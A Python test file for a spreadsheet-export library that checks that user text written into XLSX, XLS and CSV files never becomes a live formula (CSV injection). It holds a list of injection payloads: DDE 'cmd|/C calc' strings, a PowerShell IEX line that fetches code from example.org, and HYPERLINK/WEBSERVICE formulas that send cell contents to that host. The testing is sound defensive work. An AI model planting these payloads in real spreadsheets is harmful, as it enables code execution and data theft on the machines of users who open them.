"""Words of a person stay words: no drawing of ours makes a formula of them.

source: OWASP, CSV injection; security.md §4.3, U5
"""

import csv
import io
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest

from tests.tools.sheets.forms import IDENTITY, NAME
from vprok.kernel import report as said
from vprok.tools.sheets import biff
from vprok.tools.sheets.csv_form import draw_csv
from vprok.tools.sheets.draw import draw, draw_back
from vprok.tools.sheets.draw_xls import draw_xls
from vprok.tools.sheets.findings import Finding
from vprok.tools.sheets.read import read
from vprok.tools.sheets.report import draw_lines, draw_report, draw_table
from vprok.tools.sheets.spec import Book, Column, Known, Sheet, Text

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝", "＋", "－", "＠", '"=', ";=")
BODIES = (
    "1+1",
    "2+3+cmd|' /C calc'!A0",
    "cmd|'/C powershell IEX(wget example.org/a)'!A1",
    'HYPERLINK("http://example.org/?"&A1,"Средняя школа")',
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    'WEBSERVICE("http://example.org/"&A1)',
    "SUM(A1:A9)",
    'DDE("cmd","/C calc","!A0")',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "A1",
    "0",
    "7*7",
    "{1,2}",
    "школа",
    "R[-1]C",
    "'Паспорт формы'!B2",
    'INDIRECT("A1")',
    'FILTERXML("<a/>","//b")',
    "x\n=1+1",
)
PAYLOADS = tuple(start + body for start in STARTS for body in BODIES)
"""Three hundred texts that some program might run."""

ASKS = Text(most=200)
AS_CSV = "--infilter=Text - txt - csv (StarCalc):59,34,76,1,,0,false,true"
LIBREOFFICE = shutil.which("soffice")


def book() -> Book:
    """A form of two texts, one of them chosen from a list."""
    columns = (Column("one", "Первое", ASKS), Column("two", "Второе", ASKS))
    known = (Known("two", "words", "слов"),)
    return Book("words", "Слова", ("Впишите слова.",), (Sheet("s", "Слова", columns, known),))


ROWS = {"s": [{"one": text, "two": text} for text in PAYLOADS]}
LISTS = {"words": list(PAYLOADS)}


def back() -> bytes:
    """A person's own workbook, every cell remarked upon in the words of that cell."""
    reading = read(book(), draw(book(), identity=IDENTITY, rows=ROWS), name=NAME, identity=IDENTITY)
    assert len(reading.rows["s"]) == len(PAYLOADS)
    remarks = tuple(
        Finding("Слова", f"A{row.number}", row.number, text, text, "known", text, text)
        for row in reading.rows["s"]
        if (text := str(row.values["one"]))
    )
    told = type(reading)(**(vars(reading) | {"findings": remarks}))
    return draw_back(book(), told, identity=IDENTITY, lists=LISTS)


def report() -> bytes:
    text = PAYLOADS[2]
    return draw_report(
        said.Report(
            name="r",
            sheet="Слова",
            title=text,
            heading=text,
            caption=tuple((text, text) for text in PAYLOADS),
            columns=(text, text),
            rows=tuple(said.Row((text, text)) for text in PAYLOADS),
            above=((text, text),),
            notes=PAYLOADS,
        )
    )


PAIRS = [(text, text) for text in PAYLOADS]
WORKBOOKS: dict[str, Callable[[], bytes]] = {
    "draw": lambda: draw(book(), identity=IDENTITY, rows=ROWS, lists=LISTS),
    "draw_back": back,
    "draw_report": report,
    "draw_table": lambda: draw_table("Слова", (PAYLOADS[0], PAYLOADS[1]), PAIRS),
}
TABLES: dict[str, Callable[[], bytes]] = {
    "draw_csv": lambda: draw_csv(book().sheet("s"), ROWS["s"]),
    "draw_lines": lambda: draw_lines((PAYLOADS[0], PAYLOADS[1]), PAIRS),
}


def old() -> bytes:
    return draw_xls(book(), identity=IDENTITY, rows=ROWS, lists=LISTS)


def texts_of(file: bytes) -> Iterator[str]:
    """The texts of a workbook whose cells are all texts and numbers."""
    for sheet in openpyxl.load_workbook(io.BytesIO(file)):
        for cell in (cell for cells in sheet.iter_rows() for cell in cells):
            assert cell.data_type in {"s", "n", "b"}, f"{sheet.title}!{cell.coordinate}"
            assert cell.hyperlink is None, f"{sheet.title}!{cell.coordinate}"
            if isinstance(cell.value, str):
                yield cell.value


@pytest.mark.parametrize("name", WORKBOOKS)
def test_a_workbook_holds_the_words_and_no_formula(name: str) -> None:
    file = WORKBOOKS[name]()
    texts = set(texts_of(file))
    lost = [text for text in PAYLOADS if not {text, text.strip(), " ".join(text.split())} & texts]
    assert len(lost) <= len(PAYLOADS) // 3, lost  # blanks are tidied when a form is read
    with zipfile.ZipFile(io.BytesIO(file)) as box:
        for part in box.namelist():
            assert b"<f>" not in box.read(part), part
            assert b"<f " not in box.read(part), part
            assert b"TargetMode" not in box.read(part), part


def test_an_old_workbook_holds_no_formula() -> None:
    looked = biff.look(old())
    assert looked.formulas == {}


@pytest.mark.parametrize("name", TABLES)
def test_no_cell_of_a_table_begins_like_a_formula(name: str) -> None:
    lines = list(csv.reader(io.StringIO(TABLES[name]().decode("utf-8-sig")), delimiter=";"))
    assert len(lines) == len(PAYLOADS) + 1
    cells = [cell for line in lines for cell in line]
    assert not [cell for cell in cells if cell.startswith((*"=+-@\t\r", *"＝＋－＠"))]
    assert all(cell.lstrip("'") for cell in cells)


def by_libreoffice(files: dict[str, bytes], where: Path, *words: str) -> dict[str, str]:
    """The files as LibreOffice understood them, in its own flat XML."""
    for name, file in files.items():
        (where / name).write_bytes(file)
    command = [str(LIBREOFFICE), "--headless", f"-env:UserInstallation=file://{where}/profile"]
    command += [*words, "--convert-to", "fods", "--outdir", str(where)]
    command += [str(where / name) for name in files]
    subprocess.run(command, check=True, capture_output=True, timeout=240)
    return {name: (where / name).with_suffix(".fods").read_text("utf-8") for name in files}


@pytest.mark.slow
@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is not installed")
def test_a_real_program_finds_no_formula_in_any_of_them(tmp_path: Path) -> None:
    books = {f"{name}.xlsx": make() for name, make in WORKBOOKS.items()} | {"draw_xls.xls": old()}
    tables = {f"{name}.csv": make() for name, make in TABLES.items()}
    running = b"\xef\xbb\xbf" + "школа;=1+1\r\n".encode()
    seen = by_libreoffice(books, tmp_path)
    seen |= by_libreoffice(tables | {"running.csv": running}, tmp_path, AS_CSV)
    assert all("школа" in told for told in seen.values())
    assert [name for name, told in seen.items() if "table:formula" in told] == ["running.csv"]
